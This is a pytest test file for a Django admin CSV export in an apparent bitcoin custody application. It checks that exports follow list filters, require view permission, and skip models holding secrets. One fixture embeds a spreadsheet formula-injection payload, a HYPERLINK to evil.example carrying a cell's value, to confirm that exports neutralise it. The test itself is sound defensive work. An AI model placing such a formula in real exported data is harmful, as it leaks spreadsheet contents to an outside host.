"""Admin lists export CSV: the rows of the list under its filters, cells a spreadsheet will not
run, and only for whoever may view the list."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.urls import reverse

from reserve.admin.export import CsvExportMixin
from reserve.custody.models import Wallet
from tests.reserve.admin.conftest import make_user
from tests.reserve.approved_imports import import_transfers

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
QUOTED = '"' + HYPERLINK.replace('"', '""') + '"'


@pytest.fixture
def transfers(operator: Any, wallet: Wallet) -> None:
    """Two forfeitures and a donation into cold-01; the donation's memo is a formula."""
    import_transfers(
        text=(
            "occurred_at,direction,category,amount_btc,txid,block_height,destination_wallet,"
            "provenance_reference,memo\n"
            f"2026-01-05T10:00:00Z,inbound,forfeiture,2,{'ab' * 32},100,cold-01,Case 1,plain\n"
            f"2026-01-06T10:00:00Z,inbound,forfeiture,1,{'cd' * 32},101,cold-01,Case 2,\n"
            f"2026-01-07T10:00:00Z,inbound,donation,0.5,{'ef' * 32},102,cold-01,,{QUOTED}\n"
        ),
        proposer=operator,
    )


def _rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_filtered_export_matches_the_list_and_a_formula_comes_out_inert(
    transfers: None, auditor: Any, signed_in: Any
) -> None:
    client = signed_in(auditor)
    page = client.get("/admin/reserve/transfer/?category=forfeiture")
    assert page.status_code == 200
    listed = [row.pk for row in page.context["cl"].result_list]
    assert len(listed) == 2
    assert "/admin/reserve/transfer/export_csv/?category=forfeiture" in page.content.decode()

    rows = _rows(client.get("/admin/reserve/transfer/export_csv/?category=forfeiture"))
    assert [int(row["#"].lstrip("#")) for row in rows] == listed
    assert {row["category"] for row in rows} == {"forfeiture"}

    everything = _rows(client.get("/admin/reserve/transfer/export_csv/"))
    assert len(everything) == 3
    (donation,) = [row for row in everything if row["category"] == "donation"]
    assert donation["memo"] == "'" + HYPERLINK
    assert not any(value.startswith(("=", "+", "@")) for row in everything for value in row.values())


def test_an_unknown_filter_is_a_400_not_a_500(transfers: None, auditor: Any, signed_in: Any) -> None:
    response = signed_in(auditor).get("/admin/reserve/transfer/export_csv/?no_such_field=1")
    assert response.status_code == 400


@pytest.mark.parametrize(
    "path",
    [
        "/admin/reserve/transfer/export_csv/",
        "/admin/reserve/wallet/export_csv/",
        "/admin/ledger/journaltransaction/export_csv/",
        "/admin/reserve/discrepancy/export_csv/",
        "/admin/reserve/auditevent/export_csv/",
    ],
)
def test_export_follows_the_view_permission(transfers: None, auditor: Any, signed_in: Any, path: str) -> None:
    assert _rows(signed_in(auditor).get(path)) is not None
    nobody = make_user("nadia")
    assert signed_in(nobody).get(path).status_code == 403


# Lists that hold secrets or login housekeeping (API tokens, TOTP keys, lockout records): never exported.
NOT_EXPORTED = {
    "knox.AuthToken",
    "otp_totp.TOTPDevice",
    "axes.AccessAttempt",
    "axes.AccessLog",
    "axes.AccessFailureLog",
}


def test_every_admin_list_exports_csv(transfers: None, signed_in: Any) -> None:
    # given: whoever may view every list
    client = signed_in(get_user_model().objects.create_superuser(username="root", password="x"))
    registered = {model._meta.label: model_admin for model, model_admin in admin.site._registry.items()}
    assert set(registered) >= NOT_EXPORTED
    assert not any(isinstance(registered[label], CsvExportMixin) for label in NOT_EXPORTED)
    for model, model_admin in admin.site._registry.items():
        meta = model._meta
        if meta.label in NOT_EXPORTED:
            continue
        changelist = reverse(f"admin:{meta.app_label}_{meta.model_name}_changelist")
        # then: each list links its export, which answers CSV with the list's header
        page = client.get(changelist)
        assert page.status_code == 200, changelist
        assert f"{changelist}export_csv/" in page.content.decode(), f"{changelist} has no CSV export link"
        assert isinstance(model_admin, CsvExportMixin), changelist
        rows = _rows(client.get(f"{changelist}export_csv/"))
        assert len(rows) == page.context["cl"].result_count, changelist
